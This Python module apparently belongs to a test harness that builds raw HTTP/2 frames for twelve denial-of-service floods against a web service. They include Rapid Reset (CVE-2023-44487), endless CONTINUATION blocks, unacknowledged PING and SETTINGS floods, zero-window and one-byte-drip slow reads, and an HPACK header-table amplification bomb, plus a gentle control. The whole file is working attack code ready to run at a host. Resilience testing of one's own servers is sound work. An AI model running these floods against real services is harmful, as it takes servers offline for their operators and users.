"""The floods: what each sends, as raw bytes, once the connection is made.

A flood is a generator of pieces that are sent one after the other as fast as the service takes
them. Frames are made by hyperframe and header blocks by hpack; what an honest library would refuse
to send is put together here.
"""

import itertools
import time

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

LARGE_ANSWER, SMALL_ANSWER = "/openapi.json", "/problems/not_found"
CANCEL = 8
STREAMS = 100
# Pieces hold so many frames, so that Python does not hold the flood up.
BATCH = 500


class Flood:
    """`send(authority)` makes the pieces; `settings` are the client's; `reads` its answers."""

    def __init__(self, name, send, connections, reads=False, settings=None):
        self.name, self.send, self.connections = name, send, connections
        self.reads, self.settings = reads, settings or {}


def request(authority, method="GET", path=LARGE_ANSWER, more=()):
    """Returns the header block of a request; it may be sent again, on any stream."""
    fields = [(":method", method), (":scheme", "https"), (":authority", authority),
              (":path", path), *more]
    # Fields that are never indexed leave the table as it is.
    return Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields])


def headers(stream, block, *flags):
    return HeadersFrame(stream, block, flags=flags).serialize()


def whole(stream, block):
    return headers(stream, block, "END_HEADERS", "END_STREAM")


def odd():
    return itertools.count(1, 2)


def rapid_reset(authority):
    """Requests, each taken back at once (CVE-2023-44487)."""
    block, streams = request(authority), odd()
    while True:
        yield b"".join(
            whole(stream, block) + RstStreamFrame(stream, error_code=CANCEL).serialize()
            for stream in itertools.islice(streams, BATCH)
        )


def continuation(authority):
    """A header block without end (CVE-2024-27316 and its kin)."""
    yield headers(1, request(authority))
    fields = [NeverIndexedHeaderTuple(f"x-{number}", "x" * 1000) for number in range(8)]
    more = ContinuationFrame(1, Encoder().encode(fields)).serialize()
    while True:
        yield more * 20


def empty_continuation(authority):
    """The same of frames that hold nothing."""
    yield headers(1, request(authority))
    more = ContinuationFrame(1).serialize() * BATCH
    while True:
        yield more


def ping(_authority):
    """Pings whose acknowledgements nobody reads (CVE-2019-9512)."""
    yield from itertools.repeat(PingFrame(0, opaque_data=b"x" * 8).serialize() * BATCH)


def settings(_authority):
    """Settings whose acknowledgements nobody reads (CVE-2019-9515)."""
    yield from itertools.repeat(SettingsFrame(0).serialize() * BATCH)


def empty_data(authority):
    """A body of frames that hold nothing (CVE-2019-9518)."""
    more = [("content-type", "application/json")]
    yield headers(1, request(authority, "POST", "/users", more), "END_HEADERS")
    yield from itertools.repeat(DataFrame(1).serialize() * BATCH)


def window_update(_authority):
    """Windows that grow by one byte."""
    frame = WindowUpdateFrame(0, window_increment=1).serialize()
    yield from itertools.repeat(frame * BATCH)


def priority(_authority):
    """Streams that are put in ever other orders (CVE-2019-9513)."""
    streams = range(1, 2 * BATCH, 2)
    yield from itertools.repeat(b"".join(
        PriorityFrame(stream, depends_on=0, stream_weight=stream % 256).serialize()
        for stream in streams
    ))


def zero_window(authority):
    """Requests for large answers of which not one byte may be sent (CVE-2019-9517)."""
    block = request(authority)
    yield b"".join(whole(stream, block) for stream in itertools.islice(odd(), STREAMS))
    yield from silence()


def zero_window_of_small_answers(authority):
    """The same for answers that fit into one frame, which a library may count as sent."""
    block = request(authority, path=SMALL_ANSWER)
    yield b"".join(whole(stream, block) for stream in itertools.islice(odd(), STREAMS))
    yield from silence()


def drip(authority):
    """Large answers, read by a byte a second, so that there always is progress (CVE-2019-9511)."""
    block, streams = request(authority), list(itertools.islice(odd(), STREAMS))
    yield b"".join(whole(stream, block) for stream in streams)
    more = b"".join(WindowUpdateFrame(stream, window_increment=1).serialize()
                    for stream in streams)
    while True:
        yield more
        for _ in range(10):
            time.sleep(0.1)
            yield b""


def header_bomb(authority):
    """One large field kept in the table, then named by a byte each, thousands of times."""
    encoder = Encoder()
    table = encoder.encode([("x-large", "x" * 4000)], huffman=False)
    block, streams = request(authority), odd()
    yield whole(next(streams), block + table)
    # An index into the table of 62 is its newest entry (RFC 7541, section 2.3.3).
    bomb = block + b"\xbe" * 16_000
    while True:
        yield whole(next(streams), bomb)


def civil(_authority):
    """No flood: a ping ten times a second. The control: nothing should end it."""
    while True:
        yield PingFrame(0, opaque_data=b"x" * 8).serialize()
        time.sleep(0.1)


def silence():
    while True:
        yield b""
        time.sleep(0.1)


NO_WINDOW = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
FLOODS = (
    Flood("rapid reset", rapid_reset, 8, reads=True),
    Flood("CONTINUATION", continuation, 8),
    Flood("empty CONTINUATION", empty_continuation, 8),
    Flood("PING, acks unread", ping, 8),
    Flood("SETTINGS, acks unread", settings, 8),
    Flood("empty DATA", empty_data, 8),
    Flood("WINDOW_UPDATE", window_update, 8),
    Flood("PRIORITY", priority, 8),
    Flood("zero window", zero_window, 32, settings=NO_WINDOW),
    Flood("zero window, small", zero_window_of_small_answers, 32, settings=NO_WINDOW),
    Flood("window drips", drip, 32, reads=True, settings=NO_WINDOW),
    Flood("header bomb", header_bomb, 8, reads=True),
)
CONTROL = Flood("control: ten pings a second", civil, 8, reads=True)
BY_NAME = {flood.name: flood for flood in (*FLOODS, CONTROL)}
